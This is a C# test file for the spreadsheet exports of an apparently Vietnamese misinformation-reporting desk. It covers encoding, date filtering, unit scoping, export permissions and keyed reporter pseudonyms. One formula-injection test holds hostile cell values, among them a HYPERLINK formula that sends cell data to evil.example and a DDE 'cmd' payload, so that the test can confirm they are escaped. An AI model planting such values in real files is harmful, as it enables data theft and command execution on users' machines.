using System.Security.Cryptography;
using System.Text;
using Triage.Client.Cases;
using Triage.Client.Exports;
using Triage.Client.Pipeline;
using Triage.Client.Reports;
using Triage.Client.Responses;
using Triage.Server.Exports;
using Triage.Tests.Cases;
using Triage.Tests.Support;

namespace Triage.Tests.Exports;

/// <summary>The cases and reports exports, read back as a spreadsheet would read them.</summary>
public sealed class ExportTests
{
    private const string Tricky = "Cảnh báo: \"bác sĩ\" nói, uống nước muối\nchữa khỏi cúm, chia sẻ ngay!";

    private static Task<SubmittedReport> Report(TestDesk desk, string text, string email = "member@demo.local", string? url = null) =>
        desk.SendAs(email, new SubmitReport { Text = text, Url = url });

    private static Dictionary<string, string> RowOf(List<Dictionary<string, string>> rows, long id) =>
        Assert.Single(rows, r => r["id"] == id.ToString(System.Globalization.CultureInfo.InvariantCulture));

    [Fact]
    public async Task The_reports_file_starts_with_a_bom_and_reads_back_with_vietnamese_quotes_commas_and_line_breaks_intact()
    {
        await using var desk = await TestDesk.CreateAsync();
        var submitted = await Report(desk, Tricky, url: "https://www.facebook.com/groups/123/posts/456?utm_source=x");

        var file = await desk.ReportsFile("coordinator@demo.local", new ExportReports());

        Assert.Equal(ExportDesk.Utf8Bom, file[..3]);
        Assert.Contains("\"Cảnh báo: \"\"bác sĩ\"\" nói, uống nước muối\nchữa khỏi cúm, chia sẻ ngay!\"", Encoding.UTF8.GetString(file[3..]));
        var (header, rows) = ExportDesk.Parse(file);
        Assert.Equal(ExportCsv.ReportColumns, header);
        var row = RowOf(rows, submitted.ReportId);
        Assert.Equal(Tricky, row["text"]);
        Assert.Equal(submitted.CaseId.ToString(System.Globalization.CultureInfo.InvariantCulture), row["case_id"]);
        Assert.Equal("2026-11-26T08:00:00Z", row["submitted_at"]);
        Assert.Equal("facebook", row["platform"]);
        Assert.StartsWith("https://", row["url"]);
        Assert.Equal("D1-C1", row["reporter_unit"]);
    }

    [Fact]
    public async Task Only_reports_submitted_on_the_days_asked_for_are_exported_and_the_default_is_the_last_30_days()
    {
        await using var desk = await TestDesk.CreateAsync();
        var old = await Report(desk, "Tin cũ: giá xăng sẽ tăng gấp đôi từ tuần sau, hãy đổ đầy bình ngay hôm nay!");
        desk.Clock.Advance(TimeSpan.FromDays(40));
        var recent = await Report(desk, "Tin mới: trường học sẽ nghỉ cả tháng vì dịch bệnh lạ, phụ huynh hãy giữ con ở nhà!");

        var byDefault = ExportDesk.Parse(await desk.ReportsFile("coordinator@demo.local", new ExportReports())).Rows.Select(r => r["id"]).ToList();
        var oldDay = ExportDesk.Parse(await desk.ReportsFile("coordinator@demo.local",
            new ExportReports { From = new DateOnly(2026, 11, 26), To = new DateOnly(2026, 11, 26) })).Rows.Select(r => r["id"]).ToList();

        Assert.Equal([recent.ReportId.ToString(System.Globalization.CultureInfo.InvariantCulture)], byDefault);
        Assert.Equal([old.ReportId.ToString(System.Globalization.CultureInfo.InvariantCulture)], oldDay);
    }

    [Fact]
    public async Task A_days_range_is_read_in_the_desks_time_zone()
    {
        await using var desk = await TestDesk.CreateAsync();
        // 18:30 UTC on the 26th is 01:30 on the 27th in Hanoi.
        desk.Clock.Advance(TimeSpan.FromHours(10.5));
        var late = await Report(desk, "Nửa đêm: nhà máy nước bị nhiễm độc, đừng uống nước máy trong ba ngày tới!");

        var the26th = ExportDesk.Parse(await desk.ReportsFile("coordinator@demo.local",
            new ExportReports { From = new DateOnly(2026, 11, 26), To = new DateOnly(2026, 11, 26) })).Rows;
        var the27th = ExportDesk.Parse(await desk.ReportsFile("coordinator@demo.local",
            new ExportReports { From = new DateOnly(2026, 11, 27), To = new DateOnly(2026, 11, 27) })).Rows;

        Assert.Empty(the26th);
        Assert.Equal("2026-11-26T18:30:00Z", RowOf(the27th, late.ReportId)["submitted_at"]);
    }

    [Fact]
    public async Task A_units_export_holds_the_reports_of_its_subtree_only()
    {
        await using var desk = await TestDesk.CreateAsync();
        await desk.AddUser("member-d2@demo.local", Role.Member, "D2-C1");
        await desk.AddUser("coordinator-d1@demo.local", Role.Coordinator, "D1");
        var d1 = await Report(desk, "Tin đồn: cầu Bình Minh sắp sập, mọi người đừng đi qua cầu từ tối nay!");
        var d2 = await Report(desk, "Tin đồn: chợ An Lạc sẽ bị giải tỏa vào tuần sau, tiểu thương phải dọn đi ngay!", "member-d2@demo.local");

        var ofD1 = ExportDesk.Parse(await desk.ReportsFile("coordinator-d1@demo.local", new ExportReports())).Rows;
        var ofD2 = ExportDesk.Parse(await desk.ReportsFile("coordinator@demo.local", new ExportReports { UnitId = await desk.UnitId("D2") })).Rows;
        var ofP = ExportDesk.Parse(await desk.ReportsFile("admin@demo.local", new ExportReports())).Rows;

        Assert.Equal([d1.ReportId], ofD1.Select(r => long.Parse(r["id"], System.Globalization.CultureInfo.InvariantCulture)));
        Assert.Equal([d2.ReportId], ofD2.Select(r => long.Parse(r["id"], System.Globalization.CultureInfo.InvariantCulture)));
        Assert.Equal("D2-C1", RowOf(ofD2, d2.ReportId)["reporter_unit"]);
        Assert.Equal(2, ofP.Count);
    }

    [Fact]
    public async Task A_unit_outside_the_callers_subtree_or_unknown_is_not_found()
    {
        await using var desk = await TestDesk.CreateAsync();
        await desk.AddUser("coordinator-d1@demo.local", Role.Coordinator, "D1");
        var d2 = await desk.UnitId("D2");

        await Assert.ThrowsAsync<NotFoundException>(() => desk.SendAs("coordinator-d1@demo.local", new ExportReports { UnitId = d2 }));
        await Assert.ThrowsAsync<NotFoundException>(() => desk.SendAs("coordinator-d1@demo.local", new ExportCases { UnitId = d2 }));
        await Assert.ThrowsAsync<NotFoundException>(() => desk.SendAs("coordinator-d1@demo.local", new CountExport { UnitId = d2 }));
        await Assert.ThrowsAsync<NotFoundException>(() => desk.SendAs("coordinator@demo.local", new ExportReports { UnitId = 987_654 }));
    }

    [Theory]
    [InlineData("reviewer@demo.local")]
    [InlineData("responder@demo.local")]
    [InlineData("member@demo.local")]
    public async Task Reviewers_responders_and_members_may_not_export(string email)
    {
        await using var desk = await TestDesk.CreateAsync();
        await Assert.ThrowsAsync<ForbiddenException>(() => desk.SendAs(email, new ExportReports()));
        await Assert.ThrowsAsync<ForbiddenException>(() => desk.SendAs(email, new ExportCases()));
        await Assert.ThrowsAsync<ForbiddenException>(() => desk.SendAs(email, new CountExport()));
    }

    [Fact]
    public async Task A_start_after_the_end_is_a_field_problem()
    {
        await using var desk = await TestDesk.CreateAsync();
        var problem = await Assert.ThrowsAsync<ValidationFailedException>(() => desk.SendAs("coordinator@demo.local",
            new ExportReports { From = new DateOnly(2026, 11, 20), To = new DateOnly(2026, 11, 10) }));
        Assert.Equal(["to"], problem.Errors.Keys);
    }

    [Fact]
    public async Task A_reporter_has_the_same_keyed_pseudonym_in_every_export_two_reporters_differ_and_no_email_or_id_appears()
    {
        await using var desk = await TestDesk.CreateAsync();
        await desk.AddUser("member2@demo.local", Role.Member, "D1-C2");
        var first = await Report(desk, "Lừa đảo: nhắn tin trúng thưởng xe máy, yêu cầu chuyển khoản phí nhận giải 2 triệu đồng.");
        var second = await Report(desk, "Tin giả: ngân hàng sẽ khóa mọi tài khoản chưa cập nhật căn cước trước thứ Hai.", "member2@demo.local");
        var third = await Report(desk, "Tin giả: điện sẽ cắt toàn tỉnh ba ngày liền, hãy mua máy phát điện ngay.");

        var once = await desk.ReportsFile("coordinator@demo.local", new ExportReports());
        var again = ExportDesk.Parse(await desk.ReportsFile("admin@demo.local", new ExportReports())).Rows;
        var rows = ExportDesk.Parse(once).Rows;

        var member = RowOf(rows, first.ReportId)["reporter"];
        Assert.Matches("^[0-9a-f]{64}$", member);
        Assert.Equal(member, RowOf(rows, third.ReportId)["reporter"]);
        Assert.Equal(member, RowOf(again, first.ReportId)["reporter"]);
        Assert.NotEqual(member, RowOf(rows, second.ReportId)["reporter"]);

        // Keyed: not a bare hash of the id, and the desk's key (a file under keys/ on SQLite, a row shared by every
        // server on PostgreSQL) gives exactly this.
        var memberId = await desk.UserId("member@demo.local");
        var idBytes = Encoding.ASCII.GetBytes(memberId.ToString(System.Globalization.CultureInfo.InvariantCulture));
        Assert.NotEqual(Convert.ToHexStringLower(SHA256.HashData(idBytes)), member);
        var key = TestDatabase.IsPostgres
            ? await desk.Scalar<byte[]>("SELECT value FROM desk_secrets WHERE name = 'export-pseudonyms'")
            : await File.ReadAllBytesAsync(Path.Combine(desk.Directory, "keys", "export-pseudonyms.key"));
        Assert.Equal(Convert.ToHexStringLower(HMACSHA256.HashData(key, idBytes)), member);
        Assert.Equal(member, await Triage.Tests.Retention.RetentionDesk.PseudonymOf(desk, memberId));

        var text = Encoding.UTF8.GetString(once);
        Assert.DoesNotContain("@demo.local", text);
        Assert.DoesNotContain("Hoàng Thị Mai", text);
        Assert.DoesNotContain("member2", text);
        Assert.Equal(["id", "case_id", "submitted_at", "platform", "url", "text", "category", "reporter", "reporter_unit"], ExportDesk.Parse(once).Header);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"Xem chi tiết\")")]
    [InlineData("+84 912 345 678 gọi ngay để nhận quà")]
    [InlineData("-1+1 cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1) tin đồn lương hưu bị cắt")]
    public async Task Text_that_starts_like_a_formula_reads_back_as_text_behind_a_quote(string text)
    {
        await using var desk = await TestDesk.CreateAsync();
        var submitted = await Report(desk, text);

        var rows = ExportDesk.Parse(await desk.ReportsFile("coordinator@demo.local", new ExportReports())).Rows;

        var row = RowOf(rows, submitted.ReportId);
        Assert.Equal("'" + text, row["text"]);
        Assert.False(row["id"].StartsWith('\''));
    }

    [Fact]
    public async Task The_cases_file_gives_units_not_people_the_outcome_the_closing_time_and_the_first_counter_message()
    {
        await using var desk = await TestDesk.CreateAsync();
        var caseId = await desk.NewCase("Tin đồn: \"vắc-xin\" mới gây vô sinh, các mẹ đừng cho con tiêm, chia sẻ gấp!");
        var open = await desk.NewCase(CaseDesk.OtherClaim);
        await desk.ForceStatus(caseId, CaseStatus.Responded);
        var responder = await desk.UserId("responder@demo.local");
        await desk.Execute("""
            INSERT INTO counter_messages (case_id, author_user_id, kind, channel, language, text, status, published_url, published_at, created_at, updated_at)
            VALUES (@caseId, @responder, 'debunk', 'facebook', 'vi', 'Sự thật: vắc-xin đã được kiểm định.', 'published',
                    'https://www.facebook.com/hoilhpn/posts/1', '2026-11-26T09:00:00.0000000Z', '2026-11-26T08:30:00.0000000Z', '2026-11-26T09:00:00.0000000Z')
            """, new { caseId, responder });
        desk.Clock.Advance(TimeSpan.FromHours(2));
        await desk.SendAs("reviewer@demo.local", new CloseCase { CaseId = caseId, ExpectedVersion = await desk.Version(caseId), Outcome = "responded" });

        var file = await desk.CasesFile("coordinator@demo.local", new ExportCases());

        var (header, rows) = ExportDesk.Parse(file);
        Assert.Equal(ExportCsv.CaseColumns, header);
        var row = RowOf(rows, caseId);
        Assert.Equal(("closed", "false", "health", "2"), (row["status"], row["verdict"], row["category"], row["severity"]));
        Assert.Equal("Tin đồn: \"vắc-xin\" mới gây vô sinh, các mẹ đừng cho con tiêm, chia sẻ gấp!", row["title"]);
        Assert.Equal(("D1-C1", "D1", "1"), (row["owner_unit"], row["assignee_unit"], row["report_count"]));
        Assert.Equal(("responded", "2026-11-26T10:00:00Z"), (row["outcome"], row["closed_at"]));
        Assert.Equal(("https://www.facebook.com/hoilhpn/posts/1", "2026-11-26T09:00:00Z"), (row["first_response_url"], row["first_response_at"]));
        Assert.Equal("2026-11-26T08:00:00Z", row["first_reported_at"]);
        Assert.DoesNotContain("responder@demo.local", Encoding.UTF8.GetString(file));
        var other = RowOf(rows, open);
        Assert.Equal(("new", "", "", ""), (other["status"], other["closed_at"], other["assignee_unit"], other["first_response_url"]));
    }

    [Fact]
    public async Task The_counts_are_the_row_counts_of_both_files_with_the_defaults_resolved()
    {
        await using var desk = await TestDesk.CreateAsync();
        await Report(desk, "Tin đồn: cầu Bình Minh sắp sập, mọi người đừng đi qua cầu từ tối nay!");
        await Report(desk, "Tin đồn: cầu Bình Minh sắp sập, mọi người đừng đi qua cầu từ tối nay!");
        await Report(desk, CaseDesk.OtherClaim);

        var size = await desk.SendAs("coordinator@demo.local", new CountExport());
        var cases = ExportDesk.Parse(await desk.CasesFile("coordinator@demo.local", new ExportCases())).Rows;
        var reports = ExportDesk.Parse(await desk.ReportsFile("coordinator@demo.local", new ExportReports())).Rows;

        Assert.Equal((new DateOnly(2026, 10, 28), new DateOnly(2026, 11, 26), "P"), (size.From, size.To, size.Unit.Code));
        Assert.Equal((2L, 3L), (size.Cases, size.Reports));
        Assert.Equal((size.Cases, size.Reports), ((long)cases.Count, (long)reports.Count));
    }
}
